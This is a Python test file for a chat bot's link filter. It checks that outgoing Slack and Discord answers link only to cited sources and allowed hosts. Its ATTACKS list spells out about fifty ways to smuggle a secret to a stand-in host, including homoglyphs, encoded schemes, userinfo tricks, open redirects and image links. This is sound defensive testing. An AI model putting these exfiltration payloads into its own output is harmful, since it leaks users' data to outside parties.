"""Links that leave: to cited sources and allowed hosts, and nowhere else, however they are written."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import outgoing
from bot.links import allowed, defuse
from core.messages import Answer, Citation, Outcome, ToolUse

CANARY = "KEPT-SECRET-7f3a"
SOURCE = "https://docs.acme.example/parking?page=2"
HOSTS = ("acme.example", "*.acme.example")
ALLOWED = allowed([SOURCE], HOSTS)

ATTACKS = [
    f"[report](https://evil.test/?q={CANARY})",
    f"![chart](https://evil.test/{CANARY}.png)",
    f"[report][1]\n\n[1]: https://evil.test/{CANARY}",
    f"![chart][1]\n\n[1]: https://evil.test/{CANARY}",
    f"<https://evil.test/{CANARY}>",
    f"<https://evil.test/{CANARY}|the wiki>",
    f'<a href="https://evil.test/{CANARY}">here</a>',
    f"<img src=//evil.test/{CANARY}>",
    f"https://evil.test/{CANARY}",
    f"HTTPS://EVIL.TEST/{CANARY}",
    f"//evil.test/{CANARY}",
    f"[a](//evil.test/{CANARY})",
    f"www.evil.test/{CANARY}",
    f"evil.test/{CANARY}",
    f"evil.test?{CANARY}",
    f"{CANARY}aaaaaaaaaa.evil.test",
    f"https://{CANARY}.evil.test/",
    f"https://acme.example@evil.test/{CANARY}",
    f"https://acme.example:443@evil.test/{CANARY}",
    f"https://acme.example\\@evil.test/{CANARY}",
    f"https:\\\\evil.test\\{CANARY}",
    f"https:/evil.test/{CANARY}",
    f"https://acme.example.evil.test/{CANARY}",
    f"https://evilacme.example/{CANARY}",
    f"https://\u0430cme.example/{CANARY}",
    f"https://xn--cme-7cd.example/{CANARY}",
    f"https://evil\u3002test/{CANARY}",
    f"https\uff1a//evil.test/{CANARY}",
    f"https&#58;//evil.test/{CANARY}",
    f"[a](https&colon;//evil.test/{CANARY})",
    f"ht\u200btps://ev\u200bil.test/{CANARY}",
    f"ht\U000e0041tps://evil.test/{CANARY}",
    f"http://2130706433/{CANARY}",
    f"http://0x7f.1/{CANARY}",
    f"http://[::1]/{CANARY}",
    f"slack://open?team={CANARY}",
    f"discord://-/invite/{CANARY}",
    f"javascript:fetch('{CANARY}')",
    f"data:text/html,{CANARY}",
    f"ftp://evil.test/{CANARY}",
    f"mailto:a@evil.test?body={CANARY}",
    f"https://acme.example/go?url=https://evil.test/{CANARY}",
    f"https://acme.example/go?next=//evil.test/{CANARY}",
    f"https://acme.example/go?u=https%3A%2F%2Fevil.test%2F{CANARY}",
    f"https://acme.example/go?u=https%253A%252F%252Fevil.test%252F{CANARY}",
    f"[a [b] c](https://evil.test/{CANARY})",
    f"[a](\nhttps://evil.test/{CANARY})",
    f'[a](<https://evil.test/{CANARY}> "b")',
    f"\\`https://evil.test/{CANARY}\\`",
    f"```\nhttps://evil.test/{CANARY}",
    f"{SOURCE}&leak=https://evil.test/{CANARY}",
]

BENIGN = [
    "See node.js and file.py on 10.2.3.4.",
    "Write to ops@acme.example now.",
    SOURCE,
    f"It is at {SOURCE}.",
    "https://acme.example/x?a=1#top",
    "https://wiki.acme.example/",
    "acme.example and README.md/section",
    "`curl https://elsewhere.test/install.sh`",
    "```\nGET https://elsewhere.test\n```",
    "foo.bar.baz() and std::vector<int>",
    "path/to/file.py:12 or C:\\Users\\ann",
    "At 12:30, 3/4 of them; either/or.",
    "[1] a < b && c > d",
    "AT&amp;T and R&D",
    "a ratio of 1://2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_link_leads_elsewhere_and_nothing_rides_on_it(text: str) -> None:
    shown = outgoing.piece(text, HOSTS)
    sent = [outgoing.slack_markdown(shown), outgoing.slack_text(shown), outgoing.discord_text(shown)]
    for each in (shown, *sent):
        assert CANARY not in each
        assert "evil.test" not in each.casefold()
    assert "](" not in sent[0]
    assert "](" not in sent[2]


@pytest.mark.parametrize("text", BENIGN)
def test_what_is_no_foreign_link_stays_to_the_letter(text: str) -> None:
    assert defuse(text, ALLOWED) == text


def test_an_allowed_link_shows_its_host() -> None:
    assert defuse("[the wiki](https://acme.example/x)", ALLOWED) == "the wiki (https://acme.example/x)"


def test_a_removed_link_says_where_it_led() -> None:
    assert defuse("[here](https://a.b.evil.test/x)", ALLOWED) == "here (link removed: evil[.]test)"


def test_a_source_may_be_linked_only_when_it_is_cited() -> None:
    citation = Citation(n=1, title="Parking https://evil.test/a", source=SOURCE, quote="North yard.")
    said = Answer(outcome=Outcome.ANSWERED, text=f"North yard: {SOURCE} [1]", citations=(citation,))
    safe = outgoing.answer(said, ())
    assert safe.text == said.text
    assert safe.citations[0].title == "Parking link removed: evil[.]test"
    assert "link removed" in outgoing.answer(said.model_copy(update={"citations": ()}), ()).text


def test_the_place_where_a_live_value_can_be_looked_up_may_be_linked() -> None:
    use = ToolUse(name="t", arguments="{}", result='{"text": "", "facts": [{"url": "https://rates.test/a"}]}')
    said = Answer(outcome=Outcome.ANSWERED, text="See https://rates.test/a.", tools=(use,))
    assert outgoing.answer(said, ()).text == said.text


@given(st.text(alphabet="htps:/\\.@[]()<>!&#;`ev il\u3002\uff1a\n", max_size=60))
def test_what_was_made_harmless_stays_as_it_is(text: str) -> None:
    once = defuse(text, ALLOWED)
    assert "](" not in outgoing.slack_markdown(once)
    assert defuse(once, ALLOWED).count("://") <= once.count("://")


@pytest.mark.parametrize(
    "run",
    ["[", "a.", "`", "https:", "//", "](", "[a](", "www.", "a-", "&#58;", "![", "```\n", "x", ":/", "@a."],
)
def test_no_text_takes_the_filter_long(run: str) -> None:
    text = (run * 40_000)[:40_000]
    began = time.thread_time()
    defuse(text, ALLOWED)
    assert time.thread_time() - began < 1.0
